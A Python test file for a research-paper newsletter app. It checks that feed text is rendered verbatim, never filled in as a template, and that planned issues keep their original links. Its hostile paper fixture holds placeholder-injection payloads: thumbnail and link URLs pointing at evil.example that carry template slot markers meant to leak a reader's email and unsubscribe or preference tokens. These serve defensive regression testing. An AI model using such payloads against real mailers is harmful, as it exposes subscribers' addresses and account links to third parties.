"""Feed text is data, never template: the review's placeholder attack (H2), and issues that keep
the papers they were planned with however the feed changes afterwards."""

from __future__ import annotations

import html as html_lib
import json
import re
from datetime import UTC, datetime

import pytest
from alembic import command
from fastapi.testclient import TestClient
from sqlalchemy import insert, text
from sqlmodel import select

from newsletter import admin, assemble
from newsletter.db import get_engine
from newsletter.digests import DigestRenderer, _renderers, renderer_for
from newsletter.ledger import plan_issue
from newsletter.migrate import alembic_config, upgrade
from newsletter.models import Delivery, Frequency, Issue, Paper, Subscriber, utcnow
from newsletter.papers import sample_feed_path
from newsletter.testing import configured_session
from newsletter.web import create_app
from tests.conftest import html_part, text_part
from tests.test_digests import add_subscriber, digests

NONCE = "0123456789abcdef" * 2  # a nonce the attacker hopes the renderer will draw
NEW_FORMAT = f"PDSLOT{NONCE}email{NONCE}"
HOSTILE = {  # security-review.md, H2, plus every other slot name and the new marker format
    "title": "Diffusion Models for Medical Imaging PDPHemailPDPH",
    "arxiv_id": "2611.99999",
    "upvotes": 5000,
    "abstract": "Diffusion models for medical imaging. Contact PDPHview_urlPDPH PDPHintroPDPH "
    "PDPHwhyPDPH PDPHless_urlPDPH PDPHcardsPDPH " + NEW_FORMAT,
    "thumbnail": "https://evil.example/pixel.gif?who=PDPHemailPDPH&prefs=PDPHpreferences_urlPDPH",
    "projectPage": "https://evil.example/project?u=PDPHunsubscribe_urlPDPH",
    "githubRepo": f"https://github.com/evil/repo?v=PDPHmore_urlPDPH&n={NEW_FORMAT}",
}
LINKS = ("thumbnail", "projectPage", "githubRepo")
SHOWN_AS_TEXT = ("title", "abstract", "projectPage", "githubRepo")  # the text part has no thumbnail
READERS = {"med@example.org": "diffusion models for medical imaging", "any@example.org": ""}


def ingest_json(settings, tmp_path, papers: list[dict], name: str) -> None:
    path = tmp_path / name
    path.write_text(json.dumps(papers))
    admin.ingest(settings, path=path)


@pytest.fixture
def hostile_world(configure, db_url, smtp_server, tmp_path):
    box, port = smtp_server
    settings = configure(
        NEWSLETTER_DATABASE_URL=db_url,
        NEWSLETTER_SMTP_HOST="127.0.0.1",
        NEWSLETTER_SMTP_PORT=str(port),
    )
    _renderers.clear()
    admin.ingest(settings, path=sample_feed_path())
    ingest_json(settings, tmp_path, [HOSTILE], "hostile.json")
    ids = {address: add_subscriber(address, interests) for address, interests in READERS.items()}
    return type("World", (), {"settings": settings, "box": box, "ids": ids, "tmp": tmp_path})


def reader_secrets(address: str, text_body: str) -> list[str]:
    """The reader's address and the tokens of their own links (view, preferences, unsubscribe,
    votes), as the plain-text part lists them."""
    tokens = re.findall(r"https://news\.example\.org/[\w/]+/([\w-]+\.[\w-]+\.[\w-]+)", text_body)
    assert len(tokens) >= 5, text_body
    return [address, *tokens]


def unwrapped(text_: str) -> str:
    """Without whitespace: the text part wraps the abstract at 72 columns, long words too."""
    return re.sub(r"\s+", "", text_)


def assert_feed_text_verbatim(address: str, subject: str, text_body: str, html: str) -> None:
    """The hostile fields show as they came, and the reader's values only where the template put
    them: nowhere in the paper's text or in a link the feed supplied."""
    secrets = reader_secrets(address, text_body)
    shown = {"text": SHOWN_AS_TEXT, "html": ("thumbnail", *SHOWN_AS_TEXT)}
    for part, body in [("text", text_body), ("html", html_lib.unescape(html))]:
        for field in shown[part]:
            assert unwrapped(HOSTILE[field]) in unwrapped(body), (part, field)
    foreign = re.findall(r'(?:href|src)="([^"]*evil[^"]*)"', html) + re.findall(r"\S*evil\S*", text_body)
    assert foreign
    for url in foreign:
        assert not any(secret in url for secret in secrets), url
    title_and_abstract = [HOSTILE["title"], HOSTILE["abstract"]]
    for line in (*text_body.splitlines(), *re.findall(r">([^<]*)<", html)):
        if any(part[:30] in line for part in title_and_abstract):
            assert not any(secret in line for secret in secrets), line
    assert text_body.count(address) == 1 and html.count(address) == 1  # the footer's line only
    assert address not in subject and not any(t in subject for t in secrets)


def test_paper_text_spelling_slot_markers_gets_no_reader_values_in_the_sent_digest(hostile_world):
    """The review's attack, replayed end to end: the hostile paper goes out through SMTP to two
    readers; neither its title, abstract, thumbnail nor links receive an address or a token, in
    the HTML part, the text part or the subject."""
    result = admin.send_now(hostile_world.settings, "weekly")
    assert result["counts"]["sent"] == len(READERS)
    for address in READERS:
        [msg] = digests(hostile_world.box, address)
        text_body, html = text_part(msg), html_part(msg)
        assert HOSTILE["title"] in text_body  # the paper made it into this reader's digest
        assert_feed_text_verbatim(address, str(msg["Subject"]), text_body, html)
    [msg] = digests(hostile_world.box, "any@example.org")  # trending first: the subject names it
    assert HOSTILE["title"] in str(msg["Subject"])


def test_view_in_browser_render_gets_no_reader_values_in_paper_text(hostile_world):
    """The view-in-browser page serves `renderer.render` of the papers as sent (web/pages.py)."""
    admin.send_now(hostile_world.settings, "weekly")
    with configured_session() as session:
        sub = session.get(Subscriber, hostile_world.ids["med@example.org"])
        delivery = session.exec(select(Delivery).where(Delivery.subscriber_id == sub.id)).one()
    renderer = renderer_for(hostile_world.settings, delivery.issue_id)
    page = renderer.render(sub, renderer.items(sub, renderer.rank_ids(sub, delivery.paper_ids)))
    assert_feed_text_verbatim(sub.email, page.subject, page.text, page.html)


def test_a_drawn_nonce_that_paper_text_contains_is_refused(configure, monkeypatch):
    """The marker's nonce is random; even if a draw matches text from the feed, it is drawn
    again, so the paper still comes out verbatim and the slots still get the reader's values."""
    settings = configure(NEWSLETTER_DATABASE_URL="sqlite://")
    drawn = iter([NONCE, "f" * 32])
    monkeypatch.setattr(assemble, "token_hex", lambda _nbytes: next(drawn))
    now = datetime(2026, 11, 30, tzinfo=UTC)
    paper = Paper(
        id=7, title=f"Agents {NEW_FORMAT}", title_key="agents", abstract=NEW_FORMAT, published_at=now
    )
    issue = Issue(
        id=1, frequency=Frequency.weekly, period="2026-W49", title="t", paper_ids=[7], created_at=now
    )
    sub = Subscriber(id=3, email="ada@example.org", email_key="ada@example.org", interests="agents")
    renderer = DigestRenderer(settings, issue, [paper], now)
    page = renderer.render(sub, renderer.items(sub, renderer.rank(sub)))
    assert renderer.template.shell.parts[1::2]  # the shell has its slots
    assert f"Agents {NEW_FORMAT}" in page.html and page.html.count("ada@example.org") == 1
    assert "/vote/" in page.html and "/unsubscribe/" in page.html
    assert next(drawn, None) is None  # the matching nonce was refused, the second one used


def test_a_planned_issue_keeps_the_links_it_was_planned_with(hostile_world):
    """A later ingest changes the paper's links and thumbnail; the issue planned before it sends,
    and shows in the browser, the ones it was planned with."""
    with configured_session() as session:
        issue, _ = plan_issue(session, Frequency.weekly)
    changed = {**HOSTILE, **{field: f"https://evil.example/v2/{field}" for field in LINKS}}
    ingest_json(hostile_world.settings, hostile_world.tmp, [changed], "changed.json")
    with configured_session() as session:
        row = session.exec(select(Paper).where(Paper.arxiv_id == HOSTILE["arxiv_id"])).one()
        assert row.project_url == changed["projectPage"]  # the feed's change did land
        sub = session.get(Subscriber, hostile_world.ids["med@example.org"])
    admin.send_now(hostile_world.settings, "weekly")
    [msg] = digests(hostile_world.box, "med@example.org")
    renderer = renderer_for(hostile_world.settings, issue.id)
    page = renderer.render(sub, renderer.items(sub, renderer.rank(sub)))
    for body, fields in [(html_part(msg), LINKS), (page.html, LINKS), (text_part(msg), LINKS[1:])]:
        assert "/v2/" not in body
        for field in fields:
            assert HOSTILE[field] in html_lib.unescape(body), field
    assert "/v2/" not in page.text
    with TestClient(create_app(hostile_world.settings)) as client:
        archived = client.get(f"/archive/{issue.id}").text  # the public edition, too
    assert "/v2/" not in archived and html_lib.escape(HOSTILE["projectPage"]) in archived


def test_issues_planned_before_the_snapshot_render_from_the_paper_rows(configure, tmp_path):
    """Migration 0005 adds issue.papers_snapshot; an issue planned before it (NULL) still renders,
    from the papers' current rows, and the migration goes down again."""
    url = f"sqlite:///{tmp_path / 'old.db'}"
    settings = configure(NEWSLETTER_DATABASE_URL=url)
    upgrade(url)
    admin.ingest(settings, path=sample_feed_path())
    with configured_session() as session:
        papers = session.exec(select(Paper).order_by(Paper.id).limit(5)).all()
        ids, titles = [p.id for p in papers], [p.title for p in papers]
    with get_engine(url).begin() as conn:  # as 0004 wrote it: no snapshot (NULL)
        conn.execute(
            insert(Issue.__table__).values(
                frequency=Frequency.weekly, period="2026-W01", title="old", paper_ids=ids, created_at=utcnow()
            )
        )
    with configured_session() as session:
        issue = session.exec(select(Issue)).one()
        assert issue.papers_snapshot is None
    renderer = renderer_for(settings, issue.id)
    assert [v.title for v in renderer.views.values()] == titles
    command.downgrade(alembic_config(url), "0004")
    with get_engine(url).connect() as conn:
        columns = [row[1] for row in conn.execute(text("PRAGMA table_info(issue)"))]
    assert "papers_snapshot" not in columns and "paper_ids" in columns
